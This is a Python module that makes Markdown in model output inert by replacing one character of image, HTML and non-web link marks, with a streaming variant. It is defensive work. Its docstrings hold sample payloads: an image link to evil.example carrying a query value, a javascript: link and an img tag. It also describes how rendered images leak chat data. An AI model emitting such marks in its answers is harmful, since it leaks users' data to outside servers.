"""Markdown in texts of documents and models, made inert: nothing loads by itself, and links lead to the web or to mail.

An image of a remote server tells it all that its address holds (`![x](https://…?q=secret)`), as soon as a chat client
shows the answer; `javascript:` runs. One character of such a mark is replaced, as `spolia.models.marks` does it:
`!⟦x](https://…)`, `‹img src=…>`. So no offset changes, and links, lists, tables and code stay as they are.

Source: CommonMark 0.31, sections 4.5-4.7 and 6.2-6.6.
"""

import re

from spolia.core.patterns import pattern

_LOADING = (
    "script|style|iframe|frameset|svg|math|base|object|embed|form|template|textarea|title|xmp|noembed|noframes|noscript|"
    "plaintext|pre|link|meta|body|html|head|input|button|select|video|audio|img|image|picture|source|portal"
)
"""Elements that do something without an attribute, or whose content is no Markdown."""
_PLACE = r"(?:(?!<?(?:https?://|mailto:|tel:))(?:<[^>\n/?#]{0,64}|[^\s)>/?#]{0,64})[:&\\\x00-\x1f])"
"""A destination with another scheme, or with an escape that may spell one."""
_BLANK = r"[ \t]*+\n?[ \t]*+"
_LIVE = pattern(
    rf"(?<=!)\[|\](?=[(:](?:[ \t]{{64}}|{_BLANK}{_PLACE}))"
    rf"|<(?!https?://|mailto:)(?=[!?]|/?[a-z](?:[\w:.-]{{64}}|[\w:.-]*+[\s/])|/?(?:{_LOADING})>|[a-z][a-z0-9+.-]{{1,31}}:)",
    re.IGNORECASE,
)
_SHUT = {"[": "⟦", "]": "⟧", "<": "‹"}
_UNDECIDED = pattern(
    r"(?:!|\](?:[(:][ \t]*\n?[ \t]*<?[^\s)>/?#]{0,64})?|\][(:][ \t]*\n?[ \t]*<[^>\n/?#]{0,64}|"
    r"<(?:/?[a-zA-Z][\w:.+-]{0,64}|/)?|(?:(?<=\n)|\A) {0,3}(?:`+|~+)[^\n]*|(?:(?<=\n)|\A) {0,3})\Z"
)
"""The end of a text that decides, with what follows, whether a mark is live or a block of code begins or ends."""
_FENCE = pattern(r"(?:\A|(?<=\n\n))(?P<fence>(?P<sign>[`~])(?P=sign){2,})(?(sign))[^`\n]*(?:\n|\Z)")
"""The first line of a block of code; a line above it may hold it in a list or in HTML."""


def disarm(text: str) -> str:
    """Return the text with inert images, HTML, and links other than to the web; its length stays.

    >>> print(disarm("![x](https://evil.example/?q=s) [y](javascript:alert) <img src=x> <data:a>"))
    !⟦x](https://evil.example/?q=s) [y⟧(javascript:alert) ‹img src=x> ‹data:a>
    >>> disarm("[docs](https://example.org), a[i] < b, List<String>")
    '[docs](https://example.org), a[i] < b, List<String>'
    """
    if "<" not in text and "]" not in text and "![" not in text:
        return text
    parts = []
    for is_code, part in _parts(text):
        parts.append(part if is_code else _LIVE.sub(lambda mark: _SHUT[mark[0]], part))
    return "".join(parts)


def _parts(text: str) -> list[tuple[bool, str]]:
    """Split a text into blocks of fenced code, which a client shows as they are, and the rest."""
    found, start = list[tuple[bool, str]](), 0
    while opening := _FENCE.search(text, start):
        closing = re.compile(rf"^ {{0,3}}{opening['sign']}{{{len(opening['fence'])},}}[ \t]*$", re.MULTILINE)
        end = closing.search(text, opening.end())
        stop = len(text) if end is None else end.end()
        found += [(False, text[start : opening.start()]), (True, text[opening.start() : stop])]
        start = stop
    return [*found, (False, text[start:])]


class MarkdownStream:
    """A text that arrives in pieces, made inert as `disarm` does; what is not decided yet waits for the next piece."""

    def __init__(self) -> None:
        self._text, self._sent = "", 0

    def feed(self, piece: str) -> str:
        """Return what can be sent."""
        self._text += piece
        undecided = _UNDECIDED.search(self._text)
        return self._send(len(self._text) if undecided is None else undecided.start())

    def end(self) -> str:
        """Return the rest."""
        return self._send(len(self._text))

    def retract(self, characters: int) -> int:
        """Take back the last characters that were fed; return how many of these were sent."""
        self._text = self._text[: len(self._text) - characters]
        taken = max(0, self._sent - len(self._text))
        self._sent -= taken
        return taken

    def _send(self, end: int) -> str:
        found = disarm(self._text)[self._sent : end]
        self._sent = max(self._sent, end)
        return found
